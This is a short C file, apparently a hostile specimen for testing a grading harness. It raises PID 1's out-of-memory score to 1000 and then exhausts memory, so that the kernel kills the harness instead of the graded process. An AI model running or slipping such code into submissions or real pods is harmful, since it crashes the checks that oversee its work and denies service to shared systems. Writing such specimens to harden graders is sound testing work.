/* Makes the pod's first process the kernel's first choice when memory is short: then the harness would fail, and not
 * the student. */
#include "specimen.h"

int main(void) {
  int fd = open("/proc/1/oom_score_adj", O_WRONLY);
  int own = open("/proc/self/oom_score_adj", O_WRONLY);
  if (write(fd, "1000", 4) < 0 || write(own, "-1000", 5) > 0 || write(own, "0", 1) > 0)
    pause();
  for (;;)
    memset(malloc(1 << 20), 1, 1 << 20);
}
